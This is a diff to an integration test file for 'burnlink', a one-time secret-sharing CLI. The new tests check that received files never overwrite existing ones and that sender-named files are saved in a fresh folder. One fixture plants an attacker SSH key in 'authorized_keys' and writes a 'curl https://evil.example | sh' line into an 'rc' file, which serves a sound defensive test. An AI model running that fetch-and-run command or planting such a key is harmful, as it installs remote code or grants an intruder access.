@@ -11,7 +11,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { EXIT } from "@/lib/cli/exit-codes";
-import packageJson from "@/package.json";
+import cliPackageJson from "@/lib/cli/package.json";
 import { freePort } from "../support/free-port";
 import { startNextServer, type NextServer } from "../support/next-server";
 import { startRedisCluster, startRedisServer, type RedisServer } from "../support/redis-server";
@@ -180,7 +180,7 @@ describe.each(STORES)("burnlink against the server on the $name store", (store) 
     expect(expiresInSeconds).toBeLessThanOrEqual(3_600);
 
     const target = await freshDir("received");
-    const got = await runCli(["get", String(json.shareLink), "-o", target]);
+    const got = await runCli(["get", String(json.shareLink), "-o", target, "--all"]);
     expectExit(got, 0);
     expect(got.stdout).toBe("for you");
     expect((await readdir(target)).sort()).toEqual(Object.keys(files).sort());
@@ -381,7 +381,7 @@ describe("burnlink against one server (memory store)", () => {
 
     const shareLink = (await readFile(join(source, "link.txt"), "utf8")).trimEnd();
     const target = await freshDir("progress-get");
-    const got = await runOnTerminal(`cd '${target}' && ${node} get '${shareLink}'`, []);
+    const got = await runOnTerminal(`cd '${target}' && ${node} get --all '${shareLink}'`, []);
     expect(got.code, got.screen).toBe(0);
     expect(got.screen).toMatch(/Downloading/);
     expect(got.screen).toMatch(/That was the last view/);
@@ -438,22 +438,87 @@ describe("burnlink against one server (memory store)", () => {
     expect((await runCli(["get", shareLink])).stdout).toBe("note");
   });
 
-  it("never overwrites an existing file unless --force", async () => {
+  it("never overwrites an existing file, and refuses --force before consuming the view", async () => {
     const source = await freshDir("src");
     await writeFile(join(source, "config.yml"), "from the sender");
     const target = await freshDir("dst");
     await writeFile(join(target, "config.yml"), "mine");
 
-    const first = await send(server.url, ["config.yml"], { cwd: source });
-    const kept = await runCli(["get", first.shareLink], { cwd: target });
+    const { shareLink } = await send(server.url, ["config.yml"], { cwd: source });
+    expectExit(
+      await runCli(["get", shareLink, "--force"], { cwd: target }),
+      EXIT.usage,
+      /--force is gone: burnlink get never replaces a file/,
+    );
+    const kept = await runCli(["get", shareLink, "--all"], { cwd: target });
     expectExit(kept, 0);
     expect(await readFile(join(target, "config.yml"), "utf8")).toBe("mine");
     expect(await readFile(join(target, "config-2.yml"), "utf8")).toBe("from the sender");
     expect(kept.stderr).toMatch(/Saved \.\/config-2\.yml/);
+  });
 
-    const second = await send(server.url, ["config.yml"], { cwd: source });
-    expectExit(await runCli(["get", second.shareLink, "--force"], { cwd: target }), 0);
-    expect(await readFile(join(target, "config.yml"), "utf8")).toBe("from the sender");
+  it("saves sender-named files in a fresh folder by default, so none can land beside the user's own", async () => {
+    const source = await freshDir("plant");
+    await writeFile(join(source, "authorized_keys"), "ssh-ed25519 AAAA attacker");
+    await writeFile(join(source, "rc"), "curl https://evil.example | sh");
+    const target = await freshDir("home-ssh");
+    const { shareLink } = await send(server.url, ["authorized_keys", "rc"], { cwd: source });
+
+    const got = await runCli(["get", shareLink, "-o", target]);
+    expectExit(got, 0);
+    const entries = await readdir(target);
+    expect(entries).toHaveLength(1);
+    const folder = entries[0] ?? "";
+    expect(folder).toMatch(/^burnlink-\d{8}-\d{6}$/);
+    expect((await readdir(join(target, folder))).sort()).toEqual(["authorized_keys", "rc"]);
+    expect(await readFile(join(target, folder, "rc"), "utf8")).toBe(
+      "curl https://evil.example | sh",
+    );
+    expect(got.stderr).toMatch(
+      /Saved in a new folder, .*burnlink-\d{8}-\d{6}: the sender chose these names/,
+    );
+    expect(got.stderr).toMatch(/--only NAME\) or pass --all/);
+  });
+
+  it("saves the files named with --only in the directory itself and any other in a fresh folder", async () => {
+    const source = await freshDir("only-src");
+    for (const name of ["cert.pem", "key.pem", "config"]) await writeFile(join(source, name), name);
+    const { shareLink } = await send(server.url, ["cert.pem", "key.pem", "config"], {
+      cwd: source,
+    });
+    const target = await freshDir("only-dst");
+    const got = await runCli(["get", shareLink, "--only", "cert.pem", "--only", "key.pem"], {
+      cwd: target,
+    });
+    expectExit(got, 0);
+    expect(await readFile(join(target, "cert.pem"), "utf8")).toBe("cert.pem");
+    expect(await readFile(join(target, "key.pem"), "utf8")).toBe("key.pem");
+    const folder = (await readdir(target)).find((name) => name.startsWith("burnlink-")) ?? "";
+    expect(await readdir(join(target, folder))).toEqual(["config"]);
+    expect(await readdir(target)).not.toContain("config");
+
+    const exact = await send(server.url, ["cert.pem"], { cwd: source });
+    const only = await freshDir("only-exact");
+    expectExit(await runCli(["get", exact.shareLink, "--only", "cert.pem"], { cwd: only }), 0);
+    expect(await readdir(only)).toEqual(["cert.pem"]);
+  });
+
+  it("fails after showing and saving everything when a name given to --only is not in the secret", async () => {
+    const source = await freshDir("missing-src");
+    await writeFile(join(source, "id_ed25519"), "key");
+    const { shareLink } = await send(server.url, ["id_ed25519"], { cwd: source });
+    const target = await freshDir("missing-dst");
+    const got = await runCli(["get", shareLink, "--only", "id_rsa"], { cwd: target });
+    expect(got.code, got.stderr).toBe(EXIT.other);
+    expect(got.stderr).toMatch(
+      /^burnlink: the secret has no file named "id_rsa"; everything it has is shown or saved/m,
+    );
+    const folder = (await readdir(target))[0] ?? "";
+    expect(await readFile(join(target, folder, "id_ed25519"), "utf8")).toBe("key");
+    const textOnly = await send(server.url, ["--text", "no files here"]);
+    const noFile = await runCli(["get", textOnly.shareLink, "--only", "id_rsa"], { cwd: target });
+    expect(noFile.code, noFile.stderr).toBe(EXIT.other);
+    expect(noFile.stdout).toBe("no files here");
   });
 
   it("prints links in PROTOCOL.md §2 form under the server's origin, even with a trailing slash in --server", async () => {
@@ -477,8 +542,9 @@ describe("burnlink against one server (memory store)", () => {
     const linkFile = join(await freshDir("tty"), "link.txt");
     const command = `printf %s 'typed secret' | '${process.execPath}' '${LAUNCHER}' send --passphrase --server ${server.url} > '${linkFile}'`;
     const sent = await runOnTerminal(command, [
-      { waitFor: "Passphrase: ", type: "open-sesame-42\r" },
-      { waitFor: "Passphrase again: ", type: "open-sesame-42\r" },
+      // An arrow key and a Home key in the middle are dropped whole (issue 10 item 18).
+      { waitFor: "Passphrase: ", type: "open-\u001b[Dsesame-42\r" },
+      { waitFor: "Passphrase again: ", type: "open-sesame\u001bOH-42\r" },
     ]);
     expect(sent.code, sent.screen).toBe(0);
     expect(sent.screen).not.toContain("open-sesame-42");
@@ -617,10 +683,10 @@ describe("burnlink's command line", () => {
     expect(result.stdout).toMatch(new RegExp(`^Usage: burnlink ${command}`));
   });
 
-  it("prints the package version", async () => {
+  it("prints the CLI package's version", async () => {
     const result = await runCli(["--version"]);
     expectExit(result, 0);
-    expect(result.stdout).toBe(`burnlink ${packageJson.version}\n`);
+    expect(result.stdout).toBe(`burnlink ${cliPackageJson.version}\n`);
   });
 
   it.each([
